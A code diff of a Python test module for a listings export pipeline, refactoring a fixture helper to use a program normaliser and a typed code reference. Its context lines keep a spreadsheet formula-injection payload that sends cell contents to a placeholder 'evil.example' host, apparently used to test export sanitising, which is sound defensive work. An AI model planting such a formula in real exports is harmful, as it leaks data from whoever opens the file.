@@ -20,30 +20,18 @@ from pipeline import normalize
 from pipeline.exports import EXPORT_MARKER, ExportPathError, check_out_dir, export_files
 from pipeline.facility_store import link_facilities
 from pipeline.flag_store import compute_flags
+from pipeline.samhsa_codes import CodeReference
 from schemas.listing import Listing
 from schemas.raw import RawRecord
 from tests.crash_load import content_hash
-from tests.helpers import make_listing, normalize_and_load, program_records, read_items, write_items
+from tests.helpers import normalize_and_load, program_normalizer, program_records, read_items, write_items
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
 
-def _located_program(record: RawRecord, codes: object, run_id: str) -> Listing:
+def _located_program(record: RawRecord, codes: CodeReference, run_id: str) -> Listing:
     """A program page with coordinates (a negative longitude: a number that starts with '-')."""
-    from pipeline.clean import clean_state
-    from pipeline.sources.common import provenance
-
-    fields = record.fields
-    return make_listing(
-        fields["name"],
-        source=record.source,
-        provenance=provenance(record, run_id),
-        state=clean_state(fields["state"]) or "",
-        levels_of_care=set((fields.get("levels") or "iop").split(",")),
-        schedule_text=fields.get("schedule"),
-        latitude=37.54,
-        longitude=-77.44,
-    )
+    return program_normalizer(record, codes, run_id).model_copy(update={"latitude": 37.54, "longitude": -77.44})
 
 
 @pytest.fixture(scope="module")
